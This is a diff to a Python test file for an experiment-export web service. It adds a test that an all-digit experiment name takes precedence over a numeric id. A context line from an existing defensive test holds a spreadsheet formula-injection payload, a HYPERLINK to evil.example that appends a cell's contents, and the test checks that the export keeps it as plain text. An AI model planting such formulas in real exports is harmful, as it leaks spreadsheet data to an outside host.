@@ -1007,3 +1007,18 @@ async def test_rater_sheet_with_terminal_colours_formulas_and_unicode_rater(serv
         assert 'GOOD =HYPERLINK("http://x") \u241b[31m red \u241b[0m \u2407 done' in texts
         assert '=HYPERLINK("http://evil.example/?"&A1,"open")' in texts
         assert all(c.data_type == "s" for c in cells)  # text, never a formula
+
+
+async def test_an_all_digit_name_wins_over_the_same_number_as_an_id(service: Service) -> None:
+    await setup_data(service)  # exp-1, id 1
+    created = await service.http.post(
+        "/experiments", json={"name": "1", "base_model": "b", "ft_model": "f"}, headers=service.auth("submit")
+    )
+    assert created.status_code == 201 and created.json()["id"] != 1, created.text
+    read = service.auth("read")
+    for _ in range(3):
+        export = await service.http.get("/experiments/1/export", headers=read)
+        assert export.status_code == 200 and export.json()["experiment"] == "1", export.text
+    by_id = await service.http.get(f"/experiments/{created.json()['id']}/export", headers=read)
+    assert by_id.json()["experiment"] == "1"
+    assert (await service.http.get("/experiments/exp-1/export", headers=read)).json()["total"] == 4
